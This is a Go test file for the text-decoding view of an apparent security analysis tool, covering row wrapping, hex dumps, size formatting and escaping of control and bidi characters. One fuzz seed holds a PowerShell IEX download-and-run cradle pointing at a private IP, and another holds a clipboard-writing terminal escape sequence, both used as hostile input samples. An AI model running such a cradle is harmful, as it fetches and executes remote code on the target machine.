package decode

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"

	"github.com/quarry-sec/quarry/engine/frame"
	"github.com/quarry-sec/quarry/themes"
	"github.com/quarry-sec/quarry/views/draw"
	"github.com/quarry-sec/quarry/views/pane/panetest"
)

// wrapAll wraps s at w and returns the rows' raw text.
func wrapAll(s string, w int) []string {
	b := newBody(s, nil, w)
	b.total()
	out := make([]string, len(b.rows))
	for i, r := range b.rows {
		out[i] = s[r.start:r.end]
	}
	return out
}

func TestWrapRows(t *testing.T) {
	tests := []struct {
		name string
		in   string
		w    int
		want []string
	}{
		{"empty", "", 10, []string{""}},
		{"fits", "hello", 10, []string{"hello"}},
		{"words", "the quick brown fox", 10, []string{"the quick ", "brown fox"}},
		{"long word is cut", "abcdefghijkl", 5, []string{"abcde", "fghij", "kl"}},
		{"newlines", "a\nb\n\nc", 10, []string{"a", "b", "", "c"}},
		{"crlf is one break", "a\r\nb", 10, []string{"a", "b"}},
		{"lone cr is shown", "a\rb", 10, []string{"a\rb"}},
		{"trailing newline", "a\n", 10, []string{"a"}},
		{"escape is one unit", "ab\x1bcd", 4, []string{"ab", "\x1b", "cd"}},
		{"wide runes", "日本語テキスト", 5, []string{"日本", "語テ", "キス", "ト"}},
		{"combining mark stays", "e\u0301e\u0301e\u0301", 2, []string{"e\u0301e\u0301", "e\u0301"}},
		{"bidi override escaped", "ab\u202ecd", 7, []string{"ab", "\u202ec", "d"}},
		{"invalid utf-8", "a\xffb", 4, []string{"a", "\xff", "b"}},
		{"combining mark after ascii", "abe\u0301", 3, []string{"abe\u0301"}},
		{"combining mark not split", "abe\u0301", 2, []string{"ab", "e\u0301"}},
		{"unit wider than row", "\x1b", 2, []string{"\x1b"}},
	}
	for _, tt := range tests {
		got := wrapAll(tt.in, tt.w)
		if strings.Join(got, "|") != strings.Join(tt.want, "|") || len(got) != len(tt.want) {
			t.Errorf("%s: rows %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestZeroWidthTextIsBounded(t *testing.T) {
	// A million combining marks draw one cell wide; rows and units are still
	// capped, so a frame costs no more than a screenful.
	s := "a" + strings.Repeat("\u0301", 500_000)
	b := newBody(s, nil, 80)
	n := b.total()
	if n < len(s)/maxRowBytes {
		t.Fatalf("%d rows for %d bytes", n, len(s))
	}
	end := 0
	for _, r := range b.rows {
		if r.end-r.start > maxRowBytes+maxUnitBytes || r.start != end {
			t.Fatalf("row %v after %d", r, end)
		}
		end = r.end
	}
	if end != len(s) {
		t.Fatalf("rows end at %d of %d", end, len(s))
	}
	if nb, _, _ := unit(s, 0); nb > maxUnitBytes {
		t.Errorf("a cluster of %d bytes", nb)
	}
}

func TestUnitWidthMatchesSafeText(t *testing.T) {
	for _, s := range []string{"a", " ", "\t", "\x1b", "\x7f", "\u009b", "\u202e", "\u2028", "\xff", "\u00e9", "日", "e\u0301", "👍", "🇫🇷", "\U000E0001"} {
		n, w, _ := unit(s, 0)
		if n != len(s) {
			t.Errorf("%q: unit is %d bytes, want %d", s, n, len(s))
		}
		if want := ansi.StringWidth(frame.SafeText(s)); w != want {
			t.Errorf("%q: width %d, SafeText draws %d", s, w, want)
		}
	}
	// A format character does not join the cluster before it.
	if n, _, _ := unit("a\u200db", 0); n != 1 {
		t.Errorf("ZWJ joined a cluster: %d bytes", n)
	}
	if n, _, _ := unit("👍\u200d", 0); n != len("👍") {
		t.Errorf("ZWJ after an emoji joined it: %d bytes", n)
	}
}

func TestFlatten(t *testing.T) {
	raw := "0123456789é"
	got := flatten(raw, []span{
		{5, 8, markHash}, // starts inside the path: cut to 6–8
		{0, 3, markNet},
		{2, 6, markPath},    // starts inside the first: cut to 3–6
		{5, 7, markOther},   // inside what is marked already: dropped
		{-4, 1, markLabel},  // overlaps: dropped after clamping
		{9, 99, markNet},    // clamped to the end
		{11, 11, markOther}, // mid-rune, empty after snapping
	})
	want := []span{{0, 3, markNet}, {3, 6, markPath}, {6, 8, markHash}, {9, len(raw), markNet}}
	if len(got) != len(want) {
		t.Fatalf("flatten = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("span %d = %v, want %v", i, got[i], want[i])
		}
	}
	if s := snap("é", 1); s != 2 {
		t.Errorf("snap mid-rune = %d, want 2", s)
	}
}

func TestTagSpans(t *testing.T) {
	s := "a <decoded type='string' index='1'>IEX <decoded index='1.1'>x</decoded></decoded> b decoded <decoded"
	var got []string
	for _, sp := range tagSpans(s) {
		got = append(got, s[sp.start:sp.end])
	}
	want := []string{"<decoded type='string' index='1'>", "<decoded index='1.1'>", "</decoded>", "</decoded>"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("tags %q, want %q", got, want)
	}
	// An unclosed tag is not searched past maxTag.
	long := "<decoded " + strings.Repeat("x", maxTag) + ">"
	if sp := tagSpans(long); len(sp) != 0 {
		t.Errorf("a tag longer than maxTag was marked: %v", sp)
	}
}

func TestHexDump(t *testing.T) {
	tests := []struct {
		name  string
		pairs string
		size  int
		width int
		want  string
	}{
		{"16 a row", "4d 5a 90 00 41 42", 6, 80, "0000  4d 5a 90 00 41 42 " + strings.Repeat("   ", 10) + " MZ..AB"},
		{"8 a row", "4d 5a 90 00 41 42 43 44 45", 9, 50, "0000  4d 5a 90 00 41 42 43 44  MZ..ABCD\n0008  45                       E"},
		{"4 a row", "41 42 43 44 45", 5, 30, "0000  41 42 43 44  ABCD\n0004  45           E"},
		{"cut", "41", 5000, 80, "first 1 of 5,000 bytes\n0000  41 " + strings.Repeat("   ", 15) + " A"},
		{"not hex", "hello world", 11, 80, "hello world"},
		{"odd field", "4d 5a9", 3, 80, "4d 5a9"},
	}
	for _, tt := range tests {
		got := hexDump(tt.pairs, tt.size, tt.width)
		if got != tt.want {
			t.Errorf("%s:\n got  %q\n want %q", tt.name, got, tt.want)
		}
		for _, l := range strings.Split(got, "\n") {
			if tt.name != "not hex" && len(l) > tt.width {
				t.Errorf("%s: line %q is wider than %d", tt.name, l, tt.width)
			}
		}
	}
}

func TestSizes(t *testing.T) {
	tests := []struct {
		n          int
		short, all string
	}{
		{0, "0 B", "0 bytes"},
		{1, "1 B", "1 byte"},
		{412, "412 B", "412 bytes"},
		{1023, "1023 B", "1,023 bytes"},
		{1024, "1.0 KiB", "1.0 KiB (1,024 bytes)"},
		{2150, "2.1 KiB", "2.1 KiB (2,150 bytes)"},
		{14 * 1024, "14 KiB", "14 KiB (14,336 bytes)"},
		{1 << 20, "1.0 MiB", "1.0 MiB (1,048,576 bytes)"},
		{3 << 30, "3.0 GiB", "3.0 GiB (3,221,225,472 bytes)"},
	}
	for _, tt := range tests {
		if got := size(tt.n); got != tt.short {
			t.Errorf("size(%d) = %q, want %q", tt.n, got, tt.short)
		}
		if got := sizeLong(tt.n); got != tt.all {
			t.Errorf("sizeLong(%d) = %q, want %q", tt.n, got, tt.all)
		}
	}
	if draw.Thousands(-1234567) != "-1,234,567" || draw.Thousands(999) != "999" {
		t.Error("thousands")
	}
}

func TestVisible(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain text", "plain text"},
		{"a\r\nb\rc\nd", "a\nb\nc\nd"},
		{"tab\tkept", "tab\tkept"},
		{"\x1b[2J", `\x1b[2J`},
		{"\u009b31m", `\u009b31m`},
		{"evil\u202etxt", `evil\u202etxt`},
		{"日本語 é", "日本語 é"},
	}
	for _, tt := range tests {
		if got := visible(tt.in); got != tt.want {
			t.Errorf("visible(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// FuzzBodyDraw checks that any text with any marks wraps into rows that cover it
// exactly, and draws every row in exactly the width with no control bytes.
func FuzzBodyDraw(f *testing.F) {
	f.Add("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')", 20, 5, 30)
	f.Add("\x1b]52;c;AAAA\x07 日本語\r\n\u202e\xff e\u0301 👍\u200d🔥", 7, 3, 9)
	f.Add("", 1, 0, 0)
	f.Fuzz(func(t *testing.T, s string, w, a, z int) {
		w = 1 + abs(w)%120
		b := newBody(s, []span{{a, z, markNet}, {z, a, markHash}}, w)
		n := b.total()
		p := paintsFor(themes.Mono())
		pos := 0
		for i := 0; i < n; i++ {
			r := b.rows[i]
			if r.start < pos || r.end < r.start || r.end > len(s) {
				t.Fatalf("row %d = %v after %d in %d bytes", i, r, pos, len(s))
			}
			if gap := s[pos:r.start]; strings.Trim(gap, "\r\n") != "" || len(gap) > 2 {
				t.Fatalf("row %d skips %q", i, gap)
			}
			pos = max(r.end, pos)
			line := b.draw(i, p, span{a, z, markActive})
			if got := ansi.StringWidth(line); got != w {
				t.Fatalf("row %d of %q is %d cells, want %d: %q", i, s, got, w, line)
			}
			if bad := panetest.ControlBytes(line); len(bad) > 0 {
				t.Fatalf("row %d has control bytes: %q", i, line)
			}
			if !utf8.ValidString(line) {
				t.Fatalf("row %d is not valid UTF-8: %q", i, line)
			}
		}
		if tail := s[pos:]; strings.Trim(tail, "\r\n") != "" {
			t.Fatalf("rows stop before the end: %q left", tail)
		}
	})
}

func abs(n int) int {
	if n < 0 {
		return -n
	}
	return n
}
